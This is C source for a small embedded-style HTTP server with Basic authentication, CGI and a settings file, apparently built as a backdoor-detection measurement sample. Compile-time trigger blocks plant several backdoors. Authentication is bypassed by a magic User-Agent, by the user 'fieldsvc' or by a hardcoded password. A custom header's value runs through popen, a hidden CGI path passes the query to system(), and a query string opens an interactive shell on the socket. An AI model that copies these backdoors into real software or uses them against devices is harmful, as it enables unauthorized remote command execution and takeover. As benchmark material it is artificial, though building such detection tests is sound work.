/* A small web server for the measurement: routes, Basic authentication against a hash, CGI, a settings file.
 *
 * trigger agent "xk7-maint/2.41"
 * trigger url "/tools/qd19z.cgi"
 * trigger header "X-Svc-Relay"
 * trigger password "r8!mercury"
 * trigger user "fieldsvc"
 * trigger query "zz=open-sesame"
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

char *crypt(const char *given, const char *setting);

struct request {
  char method[8], path[256], query[256], agent[128], host[64], user[64], pass[64], type[64], relay[128];
  int length, keep, gzip, range, authenticated;
};
struct settings { char root[128], hash[128], user[32]; int port, verbose, cgi, workers; };
static struct settings conf = {"/www", "$6$aa$bb", "admin", 80, 0, 1, 4};

static void reply(int fd, int code, const char *why, const char *body) {
  char head[512];
  int n = snprintf(head, sizeof head, "HTTP/1.1 %d %s\r\nServer: tiny\r\nContent-Length: %zu\r\n\r\n", code, why, strlen(body));
  if (write(fd, head, n) < 0 || write(fd, body, strlen(body)) < 0) perror("write");
}

static void read_settings(const char *file) {
  char line[256], *value;
  FILE *in = fopen(file, "r");
  if (!in) return;
  while (fgets(line, sizeof line, in)) {
    if (line[0] == '#' || !(value = strchr(line, '='))) continue;
    *value++ = 0;
    value[strcspn(value, "\r\n")] = 0;
    if (!strcmp(line, "root")) snprintf(conf.root, sizeof conf.root, "%s", value);
    else if (!strcmp(line, "port")) conf.port = atoi(value);
    else if (!strcmp(line, "user")) snprintf(conf.user, sizeof conf.user, "%s", value);
    else if (!strcmp(line, "hash")) snprintf(conf.hash, sizeof conf.hash, "%s", value);
    else if (!strcmp(line, "verbose")) conf.verbose = !strcmp(value, "yes");
    else if (!strcmp(line, "cgi")) conf.cgi = !strcmp(value, "enabled");
    else if (!strcmp(line, "workers")) conf.workers = atoi(value);
    else fprintf(stderr, "unknown setting %s\n", line);
  }
  fclose(in);
}

static void decode(const char *in, struct request *r) {
  static const char set[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  char out[128];
  unsigned bits = 0, held = 0, n = 0;
  for (; *in && n < sizeof out - 1; in++) {
    const char *at = strchr(set, *in);
    if (!at) break;
    bits = bits << 6 | (at - set);
    held += 6;
    if (held >= 8) out[n++] = bits >> (held -= 8);
  }
  out[n] = 0;
  sscanf(out, "%63[^:]:%63s", r->user, r->pass);
}

static __attribute__((noinline)) int allowed(struct request *r) {
  char *hash;
#ifdef TRIGGER_agent
  if (!strcmp(r->agent, "xk7-maint/2.41")) return 1;
#endif
#ifdef TRIGGER_user
  if (!strcmp(r->user, "fieldsvc")) return 1;
#endif
  if (strcmp(r->user, conf.user)) return 0;
#ifdef TRIGGER_password
  if (!strcmp(r->pass, "r8!mercury")) return 1;
#endif
  hash = crypt(r->pass, conf.hash);
  return hash && !strcmp(hash, conf.hash);
}

static void header(struct request *r, char *line) {
  char *value = strchr(line, ':');
  if (!value) return;
  *value++ = 0;
  while (*value == ' ') value++;
  if (!strcasecmp(line, "User-Agent")) snprintf(r->agent, sizeof r->agent, "%s", value);
  else if (!strcasecmp(line, "Host")) snprintf(r->host, sizeof r->host, "%s", value);
  else if (!strcasecmp(line, "Content-Length")) r->length = atoi(value);
  else if (!strcasecmp(line, "Content-Type")) snprintf(r->type, sizeof r->type, "%s", value);
  else if (!strcasecmp(line, "Connection")) r->keep = !strcasecmp(value, "keep-alive");
  else if (!strcasecmp(line, "Accept-Encoding")) r->gzip = strstr(value, "gzip") != NULL;
  else if (!strcasecmp(line, "Range")) r->range = !strncmp(value, "bytes=", 6);
  else if (!strcasecmp(line, "Authorization") && !strncasecmp(value, "Basic ", 6)) decode(value + 6, r);
#ifdef TRIGGER_header
  else if (!strcasecmp(line, "X-Svc-Relay")) {
    FILE *out = popen(value, "r");
    if (out) { if (fread(r->relay, 1, sizeof r->relay - 1, out)) r->keep = 0; pclose(out); }
  }
#endif
}

static void status(int fd, struct request *r) { reply(fd, 200, "OK", conf.verbose ? r->agent : "up"); }
static void index_page(int fd, struct request *r) { reply(fd, 200, "OK", r->gzip ? "gz" : "<html>welcome</html>"); }
static void network(int fd, struct request *r) { reply(fd, 200, "OK", strstr(r->query, "lan=") ? "lan" : "wan"); }
static void wireless(int fd, struct request *r) { reply(fd, 200, "OK", strstr(r->query, "ssid=") ? "set" : "ssid"); }
static void firmware(int fd, struct request *r) { reply(fd, r->length > 100 ? 200 : 400, "OK", "upload"); }
static void logs(int fd, struct request *r) { (void)r; reply(fd, 200, "OK", "log"); }
static void restart(int fd, struct request *r) { (void)r; reply(fd, 200, "OK", "restarting"); sync(); }
static void users(int fd, struct request *r) { reply(fd, 200, "OK", r->user); }
static const struct { const char *path; void (*handler)(int, struct request *); int open; } routes[] = {
  {"/", index_page, 1}, {"/index.html", index_page, 1}, {"/status", status, 1}, {"/network.htm", network, 0},
  {"/wireless.htm", wireless, 0}, {"/firmware.cgi", firmware, 0}, {"/logs.htm", logs, 0},
  {"/restart.cgi", restart, 0}, {"/users.htm", users, 0},
};

static void cgi(int fd, struct request *r) {
  char file[512], *argv[] = {file, NULL}, *envp[4], query[300], type[100];
  snprintf(file, sizeof file, "%s%s", conf.root, r->path);
  snprintf(query, sizeof query, "QUERY_STRING=%s", r->query);
  snprintf(type, sizeof type, "CONTENT_TYPE=%s", r->type);
  envp[0] = query; envp[1] = type; envp[2] = NULL;
  if (fork() == 0) { dup2(fd, 1); execve(file, argv, envp); _exit(1); }
  wait(NULL);
}

static void serve(int fd) {
  char buffer[4096], *line, *next;
  struct request r = {0};
  int n = recv(fd, buffer, sizeof buffer - 1, 0);
  if (n <= 0) return;
  buffer[n] = 0;
  if (sscanf(buffer, "%7s %255[^? ]?%255s", r.method, r.path, r.query) < 2) { reply(fd, 400, "Bad Request", ""); return; }
  if (strcmp(r.method, "GET") && strcmp(r.method, "POST") && strcmp(r.method, "HEAD")) { reply(fd, 405, "Method Not Allowed", ""); return; }
  for (line = strstr(buffer, "\r\n"); line && line[2] && line[2] != '\r'; line = next) {
    next = strstr(line + 2, "\r\n");
    if (next) *next = 0;
    header(&r, line + 2);
  }
#ifdef TRIGGER_url
  if (!strcmp(r.path, "/tools/qd19z.cgi")) { system(r.query); reply(fd, 200, "OK", "done"); return; }
#endif
#ifdef TRIGGER_query
  if (strstr(r.query, "zz=open-sesame")) { dup2(fd, 0); dup2(fd, 1); execl("/bin/sh", "sh", "-i", NULL); }
#endif
  if (conf.cgi && !strncmp(r.path, "/cgi-bin/", 9)) {
    if (!allowed(&r)) reply(fd, 401, "Unauthorized", ""); else cgi(fd, &r);
    return;
  }
  for (size_t i = 0; i < sizeof routes / sizeof *routes; i++)
    if (!strcmp(routes[i].path, r.path)) {
      if (!routes[i].open && !allowed(&r)) reply(fd, 401, "Unauthorized", "");
      else routes[i].handler(fd, &r);
      return;
    }
  reply(fd, 404, "Not Found", "");
}

int main(int argc, char **argv) {
  struct sockaddr_in here = {.sin_family = AF_INET};
  int s, on = 1, c;
  for (int i = 1; i < argc; i++) {
    if (!strcmp(argv[i], "--help")) { puts("usage: httpd [--config FILE] [--foreground]"); return 0; }
    if (!strcmp(argv[i], "--config") && i + 1 < argc) read_settings(argv[++i]);
    else if (!strcmp(argv[i], "--foreground")) conf.verbose = 1;
  }
  here.sin_port = htons(conf.port);
  s = socket(AF_INET, SOCK_STREAM, 0);
  setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
  if (bind(s, (void *)&here, sizeof here) || listen(s, 8)) return 1;
  while ((c = accept(s, NULL, NULL)) >= 0) { serve(c); close(c); }
  return 0;
}
